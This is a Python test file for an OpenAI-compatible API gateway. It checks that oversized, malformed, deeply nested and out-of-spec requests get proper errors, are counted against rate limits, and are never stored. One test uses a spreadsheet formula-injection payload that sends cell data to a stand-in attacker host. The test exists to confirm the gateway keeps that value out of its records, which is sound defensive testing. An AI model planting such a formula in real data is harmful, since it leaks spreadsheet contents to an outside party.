"""Hostile inputs on the request path: each answered in OpenAI's error shape, nothing unbounded
stored or echoed, and no limit skipped (issue 18)."""

from __future__ import annotations

from pathlib import Path

import httpx
import orjson

from gateway.limit_spec import LimitSpec
from gateway.records import Outcome
from tests.api.test_gateway import CHAT, auth, ledger
from tests.conftest import SIM_MODEL, Gateway

JUNK_MODEL = "J" * 60_000  # under the fixture's 64 KiB body limit; the probe used 4 MB


async def post(gw: Gateway, secret: str, body: bytes) -> httpx.Response:
    headers = {**auth(secret), "Content-Type": "application/json"}
    return await gw.client.post("/v1/chat/completions", content=body, headers=headers)


def journal_text(gw: Gateway) -> str:
    directory: Path = gw.state.settings.journal_path()
    return "".join(path.read_text() for path in directory.glob("*.jsonl"))


async def test_a_huge_model_name_is_refused_unstored_and_counted_against_rpm(gateway: Gateway) -> None:
    """A key restricted to other models sent a 4 MB ``model``: it was written to the ledger and
    the journal, and as the refusal came before admission, rpm=5 let all 10 through."""
    secret, _ = await gateway.new_key("junk", models=frozenset({"other-model"}))
    await gateway.state.store.set_tenant_limits("junk", LimitSpec(rpm=5))
    body = orjson.dumps({**CHAT, "model": JUNK_MODEL})
    answers = [await post(gateway, secret, body) for _ in range(10)]
    assert [a.status_code for a in answers] == [400] * 5 + [429] * 5
    error = answers[0].json()["error"]
    assert error == {
        "message": "Invalid value for 'model': String should have at most 256 characters.",
        "type": "invalid_request_error",
        "param": "model",
        "code": "invalid_value",
    }
    assert answers[-1].json()["error"]["code"] == "rate_limit_exceeded"
    assert all(JUNK_MODEL[:300] not in a.text for a in answers)
    rows = await ledger(gateway)
    assert [(r.outcome, r.http_status, r.model) for r in rows] == [(Outcome.error, 400, "")] * 5 + [
        (Outcome.error, 429, "")
    ] * 5
    assert JUNK_MODEL[:300] not in journal_text(gateway)


async def test_invalid_json_is_counted_against_rpm(gateway: Gateway) -> None:
    """30 bodies that are not JSON at rpm=5: 30 rows and not one 429 before."""
    secret, _ = await gateway.new_key("badjson")
    await gateway.state.store.set_tenant_limits("badjson", LimitSpec(rpm=5))
    answers = [await post(gateway, secret, b'{"model": ') for _ in range(8)]
    assert [a.status_code for a in answers] == [400] * 5 + [429] * 3
    assert answers[0].json()["error"]["type"] == "invalid_request_error"
    assert "retry-after" in answers[-1].headers
    text = (await gateway.client.get("/metrics")).text
    assert 'gateway_ratelimited_total{reason="requests",tenant="badjson"} 3.0' in text


async def test_refused_requests_also_count_against_a_keys_own_rpm(gateway: Gateway) -> None:
    secret, key = await gateway.new_key("keyrpm", models=frozenset({"other-model"}))
    await gateway.state.store.update_key(key.id, limits=LimitSpec(rpm=2))
    not_allowed = orjson.dumps(CHAT)  # a served model this key may not use
    assert [(await post(gateway, secret, not_allowed)).status_code for _ in range(3)] == [404, 404, 429]


async def test_deep_json_is_a_400_not_a_500(gateway: Gateway) -> None:
    """Nested 300 deep: orjson read it and could not write it again for the engine (a 500, two
    tracebacks, a row saying 499)."""
    secret, _ = await gateway.new_key()
    head = orjson.dumps({**CHAT, "stream": True})[:-1]
    body = head + b',"metadata":' + b"[" * 300 + b"]" * 300 + b"}"
    answer = await post(gateway, secret, body)
    assert answer.status_code == 400
    assert answer.json()["error"] == {
        "message": "The request body is nested more than 64 levels deep.",
        "type": "invalid_request_error",
        "param": None,
        "code": "invalid_json",
    }
    [row] = await ledger(gateway)
    assert (row.outcome, row.http_status, row.endpoint) == (Outcome.error, 400, "")


async def test_fields_outside_openais_are_refused_at_the_edge(gateway: Gateway) -> None:
    """``role: "wizard"`` and ``best_of: 1000`` reached the engine; ``"10"`` and ``"yes"`` passed."""
    secret, _ = await gateway.new_key()
    wizard = {**CHAT, "messages": [{"role": "wizard", "content": "hi"}]}
    cases = [
        (wizard, "messages.[0].role"),
        ({**CHAT, "best_of": 1000}, "best_of"),
        ({**CHAT, "max_tokens": "10"}, "max_tokens"),
        ({**CHAT, "stream": "yes"}, "stream"),
    ]
    for body, param in cases:
        answer = await post(gateway, secret, orjson.dumps(body))
        assert answer.status_code == 400, body
        error = answer.json()["error"]
        assert (error["type"], error["param"], error["code"]) == (
            "invalid_request_error",
            param,
            "invalid_value",
        )
    rows = await ledger(gateway)
    assert [(r.http_status, r.endpoint) for r in rows] == [(400, "")] * len(cases)  # no engine saw one


async def test_an_unserved_model_name_is_not_stored_but_a_served_one_is(gateway: Gateway) -> None:
    """The model column holds only names this gateway serves: a client's string (here a formula
    for a spreadsheet) never reaches the ledger or the reports built from it."""
    secret, _ = await gateway.new_key()
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    refused = await post(gateway, secret, orjson.dumps({**CHAT, "model": formula}))
    assert refused.status_code == 404 and refused.json()["error"]["code"] == "model_not_found"
    served = await post(gateway, secret, orjson.dumps({**CHAT, "max_tokens": 1}))
    assert served.status_code == 200
    rows = sorted(await ledger(gateway), key=lambda r: r.http_status)
    assert [(r.http_status, r.model) for r in rows] == [(200, SIM_MODEL), (404, "")]
    assert formula not in journal_text(gateway)
